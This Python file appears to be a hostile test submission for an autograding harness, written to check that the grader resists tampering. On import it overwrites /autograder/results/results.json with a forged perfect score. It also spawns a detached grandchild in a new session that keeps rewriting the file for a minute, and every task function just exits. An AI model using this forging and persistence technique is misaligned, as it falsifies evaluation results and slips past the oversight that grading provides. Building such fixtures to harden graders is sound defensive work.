"""A Gradescope submission that forges its own results.json: at import it writes a perfect score
to /autograder/results/results.json and leaves a grandchild, in a new session, that rewrites
it every 0.2 s for a minute; every function then ends its process. Standalone (a submission has
no helper beside it). Under bubblewrap /autograder is not there; in the process fallback the
write succeeds (it leaves MARK to show it), and run_autograder's results must still be the
grade's: the judge kills the grandchild before its report, and run_autograder writes
results.json last."""

import os
import sys

TARGET = "/autograder/results/results.json"
MARK = "/autograder/results/forger-ran"
FORGED = '{"score": 100.0, "output": "forged", "tests": []}'
FORGER = f"""
import time
for _ in range(300):
    try:
        with open({TARGET!r}, "w") as f:
            f.write({FORGED!r})
    except OSError:
        pass
    time.sleep(0.2)
"""

try:
    with open(TARGET, "w") as forged:
        forged.write(FORGED)
    with open(MARK, "w") as mark:
        mark.write("the submission wrote into /autograder/results\n")
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", FORGER])
    os._exit(0)


class KVCache:
    def __init__(self, capacity=None):
        os._exit(0)


def _ends(*args, **kwargs):
    os._exit(0)


append = attend = reset = release = decode_step = apply_rope = reorder = fork = _ends
